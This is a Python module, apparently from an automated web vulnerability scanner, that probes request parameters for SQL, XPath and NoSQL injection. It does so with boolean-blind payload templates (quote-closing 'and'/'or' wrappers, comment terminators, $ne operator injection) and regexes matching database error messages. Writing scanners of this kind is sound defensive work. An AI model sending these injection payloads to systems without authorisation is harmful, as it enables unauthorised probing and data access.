"""Whether a value becomes part of a question to a database: told by sums that only what reckons can tell apart.

The pair of values differs in one digit, so that nothing that takes them as text (a search, a filter against attacks)
can tell the true one from the false one.
"""

import random
import re
from collections.abc import Callable
from dataclasses import dataclass

from worker.explorer.experiments.answers import Trial, sent
from worker.explorer.experiments.entries import fresh_token
from worker.observation.experiments.attacks import Injection, Sent
from worker.observation.runtime import Exchange


@dataclass(frozen=True, slots=True)
class Sum:
    """A claim about numbers, true or not: "73512=73500+12"."""

    first: int
    second: int
    off: int = 0

    @property
    def claim(self) -> str:
        return f"{self.first + self.second + self.off}={self.first}+{self.second}"

    @classmethod
    def pair(cls) -> "tuple[Sum, Sum]":
        """A true and a false one, alike but for a digit."""
        # The false sum's last digit differs by one without a carry.
        first, second = random.randrange(1_000, 9_000) * 10, random.randrange(1, 9)
        return cls(first, second), cls(first, second, 1 if second < 8 else -1)


Wrap = Callable[[str, str], str]


def _and(value: str, claim: str) -> str:
    return f"{value} and {claim}"


def _and_quoted(value: str, claim: str) -> str:
    return f"{value}' and {claim} and 'a'='a"


def _and_double_quoted(value: str, claim: str) -> str:
    return f'{value}" and {claim} and "a"="a'


def _and_in_brackets(value: str, claim: str) -> str:
    return f"{value}') and {claim} and ('a'='a"


def _and_in_pattern(value: str, claim: str) -> str:
    return f"{value}%' and {claim} and '%'='"


# What is added behind the value (a pattern's "%", a bracket) stays within the last text, which is false with it or not.
def _or_quoted(value: str, claim: str) -> str:
    return f"{value}' or {claim} or 'a'='b"


def _or_quoted_comment(value: str, claim: str) -> str:
    return f"{value}' or {claim} -- "


def _or_double_quoted(value: str, claim: str) -> str:
    return f'{value}" or {claim} or "a"="b'


def _or(value: str, claim: str) -> str:
    return f"{value} or {claim}"


_NARROWING: tuple[Wrap, ...] = (_and, _and_quoted, _and_double_quoted, _and_in_brackets, _and_in_pattern)
_WIDENING: tuple[Wrap, ...] = (_or_quoted, _or_double_quoted, _or_quoted_comment, _or)

_SQL_ERRORS = re.compile(
    r"You have an error in your SQL syntax|check the manual that corresponds to your (?:MySQL|MariaDB)|"
    r"SQLSTATE\[\w+\]|(?:sqlite3?|psycopg2?|pymysql|MySQLdb|asyncpg)\.\w*(?:Error|Exception)|SQLITE_ERROR|"
    r"near \"[^\"]{0,60}\": syntax error|unrecognized token: \"|unterminated quoted (?:string|identifier) at or near|"
    r"syntax error at or near \"|PG::SyntaxError|org\.postgresql\.util\.PSQLException|"
    r"Unclosed quotation mark after the character string|Incorrect syntax near '|"
    r"\bORA-(?:00933|00921|01756|00907|01789)\b|quoted string not properly terminated|"
    r"SequelizeDatabaseError|sqlalchemy\.exc\.\w+|QueryFailedError|PDOException|java\.sql\.SQL\w*Exception|"
    r"System\.Data\.SqlClient\.SqlException|Microsoft OLE DB Provider|ER_PARSE_ERROR|DB2 SQL error|valid MySQL result",
    re.IGNORECASE,
)
_XPATH_ERRORS = re.compile(
    r"XPathE(?:xception|valError)|xmlXPath(?:Eval|CompOpEval)|SimpleXMLElement::xpath|Invalid XPath|"
    r"javax\.xml\.xpath|System\.Xml\.XPath",
    re.IGNORECASE,
)
_LDAP_ERRORS = re.compile(
    r"javax\.naming\.(?:directory|NamingException)|LDAPException|Bad search filter|ldap_search\(\)|"
    r"Invalid DN syntax|filter_parse|com\.sun\.jndi\.ldap|LDAPInvalidFilterError",
    re.IGNORECASE,
)
_NOSQL_ERRORS = re.compile(
    r"Mongo(?:Server)?Error|MongoDB\.Driver|CastError: Cast to|BSONError|unknown operator: \$|CouchbaseException",
    re.IGNORECASE,
)
_ERRORS = (("sql", _SQL_ERRORS), ("xpath", _XPATH_ERRORS), ("ldap", _LDAP_ERRORS), ("nosql", _NOSQL_ERRORS))


def complaint(answer: Exchange) -> tuple[str, str] | None:
    """Which kind of database complains in an answer, and its words; None when none does."""
    for kind, errors in _ERRORS:
        if found := errors.search(answer.body):
            return kind, found.group()
    return None


async def looks_run(trial: Trial) -> bool:
    """Whether a few values make it worth trying all: signs that end a text fail where letters do not, or a sum behind a
    value tells.
    """
    nonsense = nonsense_value()
    nothing, broken = await trial.ask(nonsense), await trial.ask(breaking_value(trial.entry.value))
    if (broken.status or 0) >= 500 > (nothing.status or 0) or (complaint(broken) and not complaint(nothing)):
        return True
    wraps = [(wrap, nonsense, nothing) for wrap in _WIDENING]
    if trial.entry.value and not trial.is_as_before(nothing, nonsense):
        wraps += [(wrap, trial.entry.value, trial.before) for wrap in _NARROWING]
    for wrap, value, known in wraps:
        (true, one), (false, other) = [(text, await trial.ask(text)) for text in _claims(wrap, value)]
        if trial.alike(one, true, known, value) != trial.alike(other, false, known, value):
            return True
    return False


def _claims(wrap: Wrap, value: str) -> tuple[str, str]:
    true, false = Sum.pair()
    return wrap(value, true.claim), wrap(value, false.claim)


async def by_complaint(trial: Trial, breaking: str, broken: Exchange, harmless: Exchange) -> Injection | None:
    """A sign that ends a text makes the database complain, and letters in its place do not."""
    told = complaint(broken)
    if told is None or complaint(harmless) or complaint(trial.before):
        return None
    kind, words = told
    again = await trial.ask(breaking)
    if complaint(again) is None:
        return None
    proof = f"The signs '\" in it made the database complain (“{words[:60]}”), letters did not."
    return _found(trial, kind, breaking, proof, again, words)


async def by_sums(trial: Trial) -> Injection | None:
    """A true sum changes nothing and a false one does, twice."""
    for wrap in _NARROWING:
        if found := await _told_apart(trial, wrap, true_is_as_before=True):
            return found
    # What widens a question may change more rows than one where something is written.
    if trial.sending.logs_in or not trial.sending.changes:
        for wrap in _WIDENING:
            if found := await _told_apart(trial, wrap, true_is_as_before=False):
                return found
    return None


async def by_finding_all(trial: Trial, nonsense: str, nothing: Exchange) -> Injection | None:
    """Where nonsense finds nothing, a false sum behind it finds nothing either and a true one does, twice."""
    for wrap in _WIDENING:
        if found := await _told_apart(trial, wrap, true_is_as_before=False, known=(nonsense, nothing)):
            return found
    return None


async def _told_apart(
    trial: Trial, wrap: Wrap, *, true_is_as_before: bool, known: tuple[str, Exchange] | None = None
) -> Injection | None:
    """`known` is the value that sums are put behind, with its answer; the one that was seen where none is given."""
    seen, before = known or (trial.entry.value, trial.before)

    def is_as_before(answer: Exchange, value: str) -> bool:
        return trial.alike(answer, value, before, seen)

    told: list[tuple[str, Exchange, str, Exchange]] = []
    for _ in range(2):
        true, false = (wrap(seen, one.claim) for one in Sum.pair())
        as_before, other = (true, false) if true_is_as_before else (false, true)
        same = await trial.ask(as_before)
        if not is_as_before(same, as_before):
            return None
        differing = await trial.ask(other)
        if is_as_before(differing, other) or _refused(differing):
            return None
        told.append((as_before, same, other, differing))
    (_, _, one, first), (_, _, two, second) = told
    if not trial.alike(first, one, second, two):
        return None
    value, answer = told[1][2:]
    what = "true" if true_is_as_before else "false"
    proof = (
        f"With a {what} sum behind it the answer was as without, with a sum that differs in one digit it was another; "
        "this held twice, with other numbers."
    )
    kind = "xpath" if wrap is _and_quoted and await _is_xpath(trial) else "sql"
    return _found(trial, kind, value, proof, answer, "")


async def _is_xpath(trial: Trial) -> bool:
    """Whether it knows XPath's own function."""
    seen = trial.entry.value
    right, wrong = _and_quoted(seen, "string-length('four')=4"), _and_quoted(seen, "string-length('four')=5")
    if not trial.is_as_before(await trial.ask(right), right):
        return False
    return not trial.is_as_before(await trial.ask(wrong), wrong)


async def by_operator(trial: Trial, harmless: Exchange, nonsense: str) -> Injection | None:
    """An operator of a document database in place of a text is obeyed: "is" gives the same, "is not" something else."""
    seen = trial.entry.value
    if not seen or trial.is_as_before(harmless, nonsense):
        return None

    async def asked(operator: str, value: str) -> tuple[Exchange | None, Sent | None]:
        sending = (
            trial.entry.renamed(trial.sending, f"[{operator}]", value)
            if trial.entry.place in ("query", "form")
            else trial.entry.holding_object(trial.sending, {operator: value})
        )
        if sending is None:
            return None, None
        answer = await trial.asking.send(sending)
        return answer, sent(sending, answer)

    equal, _ = await asked("$eq", seen)
    if equal is None or not trial.is_as_before(equal, seen):
        return None
    equal_to_nothing, _ = await asked("$eq", nonsense)
    if equal_to_nothing is None or not trial.alike(equal_to_nothing, nonsense, harmless, nonsense):
        return None
    unequal, record = await asked("$ne", nonsense)
    if unequal is None or record is None or trial.alike(unequal, nonsense, harmless, nonsense) or _refused(unequal):
        return None
    proof = "The operators $eq and $ne in its place were obeyed: “is” gave the same answer, “is not” another one."
    return Injection(
        "nosql", trial.entry.place, trial.entry.name, trial.sending.url, f"[$ne]={nonsense}", proof, record
    )


def breaking_value(value: str) -> str:
    """The value with signs behind it that end a text or begin what is never ended."""
    return f"{value}'\"("


def nonsense_value() -> str:
    """Letters that no data has."""
    return f"{fresh_token()}q"


def _refused(answer: Exchange) -> bool:
    """Whether it is not the app that answers but something before it that turns attacks away, or nothing."""
    return answer.status is None or answer.status in (401, 403, 405, 406, 418, 501)


def _found(trial: Trial, kind: str, value: str, proof: str, answer: Exchange, around: str) -> Injection:
    entry = trial.entry
    record = sent(entry.holding(trial.sending, value), answer, around)
    return Injection(kind, entry.place, entry.name, trial.sending.url, value, proof, record)
